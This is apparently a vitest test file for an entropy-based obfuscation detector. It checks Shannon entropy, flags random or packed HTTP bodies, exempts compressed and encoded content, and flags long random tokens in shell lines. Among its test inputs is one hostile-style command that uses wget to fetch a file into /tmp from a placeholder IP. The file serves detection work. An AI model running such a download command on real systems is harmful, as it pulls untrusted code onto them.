/** Entropy as a flag: what looks random where nothing random is due, and what is random by right. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { isHostile, judgeObservation } from '#enforcer/detect/judge.ts';
import { entropyBits, randomBody, randomToken } from '#enforcer/detect/obfuscation.ts';
import { at, payloadOf, randomBytes } from '#test/support/detect-corpus.ts';

const latin1 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const PROSE = 'It is a truth universally acknowledged, that a single man in possession of a good fortune, must be in want of a wife. '
  .repeat(40)
  .slice(0, 4096);
const MACHINE_CODE = latin1(
  Uint8Array.from(
    { length: 4096 },
    (_, index) => [0x48, 0x8b, 0x45, 0xf8, 0x48, 0x89, 0xc7, 0xe8, index >> 4, 0xff, 0xff, 0xff, 0x85, 0xc0, 0x75, index & 0x3f][index % 16] ?? 0,
  ),
);

describe('entropy', () => {
  test('is that of Shannon, in bits a character', () => {
    expect(entropyBits('')).toBe(0);
    expect(entropyBits('aaaa')).toBe(0);
    expect(entropyBits('abab')).toBe(1);
    expect(entropyBits('abcd')).toBe(2);
    expect(entropyBits(latin1(Uint8Array.from({ length: 256 }, (_, index) => index)))).toBe(8);
  });
});

describe('a body', () => {
  test.each([512, 700, 1024, 2048, 4096])('of %i encrypted bytes is flagged, and is no proof', length => {
    for (let seed = 1; seed <= 40; seed++) {
      const findings = judgeObservation(payloadOf('body', randomBytes(length, seed * 7919)), at('http', 80));
      expect(findings.map(({ rule, reason }) => [rule, reason])).toEqual([['random-body', 'obfuscated']]);
      expect(isHostile(findings)).toBe(false);
    }
  });

  test('of a packed program without a header is flagged as well', () => {
    const packed = latin1(deflateRawSync(Buffer.from(randomBytes(3000, 5).replace(/[\x80-\xff]/g, 'mov ')), { level: 9 })).slice(0, 4096);
    expect(packed.length).toBeGreaterThan(512);
    expect(randomBody(packed, packed.length)?.rule).toBe('random-body');
  });

  test.each([
    ['prose', PROSE],
    ['machine code', MACHINE_CODE],
    ['base64', Buffer.from(randomBytes(3000, 3), 'latin1').toString('base64')],
    ['hexadecimal', Buffer.from(randomBytes(2000, 3), 'latin1').toString('hex')],
    ['UTF-8 of another script', Buffer.from('天地玄黄宇宙洪荒日月盈昃辰宿列张寒来暑往秋收冬藏'.repeat(40)).toString('latin1').slice(0, 4096)],
    ['UTF-16', Buffer.from(PROSE.slice(0, 2000), 'utf16le').toString('latin1')],
    ['gzip', latin1(gzipSync(Buffer.from(randomBytes(3000, 9), 'latin1')))],
    ['a picture without compression', latin1(Uint8Array.from({ length: 4096 }, (_, index) => 128 + Math.round(60 * Math.sin(index / 40)) + (index % 3)))],
    ['few bytes', randomBytes(511, 11)],
  ])('of %s is not', (_name, content) => {
    expect(randomBody(content, content.length)).toBeUndefined();
  });

  test('of which a piece is a long upload is not', () => {
    expect(randomBody(randomBytes(4096, 3), 16_384)?.rule).toBe('random-body');
    expect(randomBody(randomBytes(4096, 3), 16_385)).toBeUndefined();
  });
});

describe('a line to a shell', () => {
  const token = Buffer.from(randomBytes(120, 21), 'latin1').toString('base64');

  test('with a long random token is flagged', () => {
    expect(randomToken(`echo ${token} >> x`)?.quote).toBe(token);
    expect(randomToken(token)?.quote).toBe(token);
  });

  test('with words, a path, a hash or a short token is not', () => {
    for (const line of [
      '',
      'cd /tmp; wget http://203.0.113.9/x',
      `sha256sum ${'0123456789abcdef'.repeat(8)}`,
      `echo ${token.slice(0, 90)} > x`,
      'a'.repeat(500),
      `/${'usr/local/lib/python3/'.repeat(8)}`,
    ]) {
      expect(randomToken(line)).toBeUndefined();
    }
  });
});
